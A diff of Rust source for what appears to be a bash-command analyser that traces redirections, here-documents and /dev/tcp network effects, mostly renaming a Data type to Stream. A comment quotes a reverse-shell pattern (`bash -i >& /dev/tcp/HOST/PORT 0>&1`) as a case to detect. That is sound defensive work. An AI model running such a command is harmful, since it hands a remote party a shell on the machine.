@@ -2,7 +2,7 @@
 
 use super::Walker;
 use super::capture::Output;
-use super::state::{Data, Variable};
+use super::state::{Stream, Variable};
 use crate::expand::Documents;
 use crate::parser;
 use crate::paths::{join, normal, path_text};
@@ -14,10 +14,10 @@ use leashd_types::{Direction, Effect, Host, PathText};
 #[derive(Debug)]
 pub(super) struct Redirected {
     pub(super) effects: Vec<Effect>,
-    pub(super) input: Option<Data>,
+    pub(super) input: Option<Stream>,
     pub(super) output: Output,
     /// Input opened under a number of its own.
-    pub(super) opened: Vec<(u32, Data)>,
+    pub(super) opened: Vec<(u32, Stream)>,
 }
 
 /// What a file is opened for.
@@ -29,7 +29,7 @@ enum Access {
 }
 
 impl Redirected {
-    pub(super) fn input_or(&self, outer: &Data) -> Data {
+    pub(super) fn input_or(&self, outer: &Stream) -> Stream {
         self.input.clone().unwrap_or_else(|| outer.clone())
     }
 }
@@ -49,8 +49,11 @@ impl Walker<'_> {
             Descriptor::Number(number) => Some(number),
             Descriptor::Default => None,
             Descriptor::Variable(name) => {
-                self.set_variable(name, Variable::scalar(Word::unknown(super::origin::NUMBER)));
-                Some(u32::MAX)
+                // Bash takes the first free number from 10 on.
+                self.processes += 1;
+                let number = 9 + u32::try_from(self.processes).unwrap_or(u32::MAX / 2);
+                self.set_variable(name, Variable::scalar(Word::literal(number.to_string())));
+                Some(number)
             }
         };
         let word = match &redirect.target {
@@ -64,7 +67,7 @@ impl Walker<'_> {
             Operator::HereString => {
                 let mut word = self.value(&word.pieces, documents);
                 word.push(Part::Text("\n".to_owned()));
-                return open_input(number, Data::of(word), into);
+                return open_input(number, Stream::of(word), into);
             }
             _ => {
                 let mut words = self.words(std::slice::from_ref(word), documents);
@@ -87,7 +90,7 @@ impl Walker<'_> {
             }
             Operator::DuplicateInput => {
                 self.note("input taken from something that is not known");
-                return into.input = Some(Data::unknown("input that is not known"));
+                return into.input = Some(Stream::unknown("input that is not known"));
             }
             Operator::Read => (Access::Read, Writing::Replace),
             Operator::ReadWrite => (Access::Both, Writing::Replace),
@@ -102,14 +105,14 @@ impl Walker<'_> {
             let direction = if writes { Direction::Send } else { Direction::Fetch };
             into.effects.push(Effect::Network { host, direction });
             if reads {
-                open_input(number, Data::unknown("downloaded by /dev/tcp"), into);
+                open_input(number, Stream::unknown("downloaded by /dev/tcp"), into);
             }
             if writes && matches!(number, None | Some(1)) {
                 into.output = Output::Elsewhere;
             }
             // Both ways through one descriptor: `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
             if writes && !reads {
-                into.opened.push((number.unwrap_or(1), Data::unknown("downloaded by /dev/tcp")));
+                into.opened.push((number.unwrap_or(1), Stream::unknown("downloaded by /dev/tcp")));
             }
             return;
         }
@@ -117,7 +120,7 @@ impl Walker<'_> {
         if reads {
             let data = match &path {
                 Some(path) => self.readable(path),
-                None => Data::unknown("a file that is not known"),
+                None => Stream::unknown("a file that is not known"),
             };
             open_input(if operator == Operator::ReadWrite { number.or(Some(0)) } else { number }, data, into);
         }
@@ -130,7 +133,7 @@ impl Walker<'_> {
                 None => Output::Elsewhere,
             };
         } else if let Some(path) = path.filter(|_| writes) {
-            self.write_file(&normal(&path), Data::unknown("what a command wrote"), writing);
+            self.write_file(&normal(&path), Stream::unknown("what a command wrote"), writing);
         }
     }
 
@@ -154,6 +157,9 @@ impl Walker<'_> {
         let source = text.trim_end_matches('-').parse::<u32>().ok();
         let standard = if operator == Operator::DuplicateInput { 0 } else { 1 };
         match (number.unwrap_or(standard), source) {
+            (0, None) if text.is_empty() => {
+                into.input = Some(Stream::unknown("a descriptor that is not known"))
+            }
             (0, Some(source)) => {
                 let opened = into.opened.iter().rev().find(|(number, _)| *number == source);
                 let data = opened
@@ -162,7 +168,7 @@ impl Walker<'_> {
                 if let Some(data) = data {
                     into.input = Some(data);
                 } else if source > 2 {
-                    into.input = Some(Data::unknown("a descriptor that is not known"));
+                    into.input = Some(Stream::unknown("a descriptor that is not known"));
                 }
             }
             (1, Some(1)) => {}
@@ -176,24 +182,28 @@ impl Walker<'_> {
         }
     }
 
-    fn document(&mut self, index: usize, documents: Documents<'_>) -> Data {
-        let Some(document) = documents.get(index) else { return Data::unknown("a here-document") };
+    fn document(&mut self, index: usize, documents: Documents<'_>) -> Stream {
+        let Some(document) = documents.get(index) else { return Stream::unknown("a here-document") };
         if !document.expands {
             if !self.spend_bytes(document.body.len()) {
-                return Data::unknown("a here-document");
+                return Stream::unknown("a here-document");
             }
             let hole = document.body.contains(crate::expand::HOLE);
-            return if hole { Data::unknown("a here-document") } else { Data::text(document.body.as_ref()) };
+            return if hole {
+                Stream::unknown("a here-document")
+            } else {
+                Stream::text(document.body.as_ref())
+            };
         }
         if !self.spend_bytes(document.body.len()) {
-            return Data::unknown("a here-document");
+            return Stream::unknown("a here-document");
         }
         let (pieces, inner, reject) = parser::parse_quoted(&document.body);
         if reject.is_some() {
             self.note("a here-document that is not understood");
         }
         let quoted = crate::syntax::Piece::Double(pieces);
-        Data::of(self.value(std::slice::from_ref(&quoted), &inner))
+        Stream::of(self.value(std::slice::from_ref(&quoted), &inner))
     }
 
     /// The absolute path of a word, if it is one and only one.
@@ -215,12 +225,12 @@ impl Walker<'_> {
     }
 
     /// What is found in a file that is opened.
-    pub(super) fn readable(&self, path: &str) -> Data {
+    pub(super) fn readable(&self, path: &str) -> Stream {
         if path == "/dev/stdin" || path == "/dev/fd/0" || path == "/proc/self/fd/0" {
             return self.input.clone();
         }
         if path == "/dev/null" {
-            return Data::text("");
+            return Stream::text("");
         }
         let number = path.strip_prefix("/dev/fd/").or_else(|| path.strip_prefix("/proc/self/fd/"));
         if let Some(data) = number
@@ -229,11 +239,11 @@ impl Walker<'_> {
         {
             return data.clone();
         }
-        self.written(path).unwrap_or_else(|| Data::File(path.to_owned()))
+        self.written(path).unwrap_or_else(|| Stream::File(path.to_owned()))
     }
 }
 
-fn open_input(number: Option<u32>, data: Data, into: &mut Redirected) {
+fn open_input(number: Option<u32>, data: Stream, into: &mut Redirected) {
     match number {
         None | Some(0) => into.input = Some(data),
         Some(number) => into.opened.push((number, data)),
